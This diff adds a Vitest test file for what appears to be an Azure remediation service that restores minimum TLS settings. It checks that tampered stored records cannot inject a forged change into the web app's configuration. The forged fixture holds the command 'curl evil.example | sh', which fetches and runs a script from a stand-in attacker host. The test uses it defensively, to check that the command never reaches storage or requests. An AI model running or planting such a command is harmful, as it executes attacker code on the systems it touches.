@@ -1,0 +1,59 @@
+/** What somebody who may write tables, but cannot sign, makes of a remembered intent: the log decides what was intended. */
+import { describe, expect, test } from 'vitest';
+import type { Change } from '../../src/domain/change.ts';
+import { SHOP } from '../world/apps.ts';
+import { gridEvent } from '../world/event-grid.ts';
+import { factsIn, type Scene, scene } from '../world/scene.ts';
+import { watchedWorld } from '../world/watched-world.ts';
+import { tlsNow } from './rolling-back.ts';
+
+const COMMAND = '/properties/appCommandLine';
+const forged: Change[] = [{ document: 'config/web', path: COMMAND, from: 'curl evil.example | sh', to: null }];
+
+/** A process that died after the intent was logged, before or after Azure took the write. */
+async function died(when: 'before' | 'after'): Promise<Scene> {
+  let left = 1;
+  const made = scene({
+    app: { config: { minTlsVersion: '1.0' } },
+    ports: (whole) =>
+      watchedWorld(whole, async (name, go) => {
+        if (name !== 'arm.write' || left-- <= 0) return go();
+        if (when === 'after') await go();
+        throw new Error('the process ended');
+      }),
+  });
+  await made.host.deliver(gridEvent('e', SHOP));
+  made.world.clock.advance(30);
+  await made.host.work();
+  expect(factsIn(made.world)).toEqual(['fix.intended webapp-min-tls']);
+  return made;
+}
+
+function tamper({ world }: Scene): void {
+  const [[key, memory] = []] = world.stored.memories;
+  if (!key || !memory) throw new Error('the resource is remembered');
+  const operations = memory.operations.map((operation) => ({
+    ...operation,
+    entries: operation.entries.map((entry) => ({ ...entry, changes: forged })),
+  }));
+  world.stored.memories.set(key, { ...memory, operations });
+}
+
+describe('promise 14: an intent is what the log says, whatever the tables remember', () => {
+  test.each(['before', 'after'] as const)('the process died %s the write', async (when) => {
+    const made = await died(when);
+    tamper(made);
+    await made.host.settle();
+    expect(tlsNow(made.world)).toBe('1.2');
+    expect(factsIn(made.world)).toEqual(['fix.intended webapp-min-tls', 'fix.applied webapp-min-tls']);
+    expect(JSON.stringify([made.world.stored.entries, made.world.arm.requests])).not.toContain(COMMAND);
+  });
+
+  test('an intent whose entry was edited is none, and the service says so', async () => {
+    const made = await died('after');
+    const { entries } = made.world.stored;
+    entries.splice(0, 1, ...entries.map((entry) => ({ ...entry, changes: forged })));
+    await made.host.settle();
+    expect(factsIn(made.world, 'fix.applied')).toEqual([]);
+  });
+});
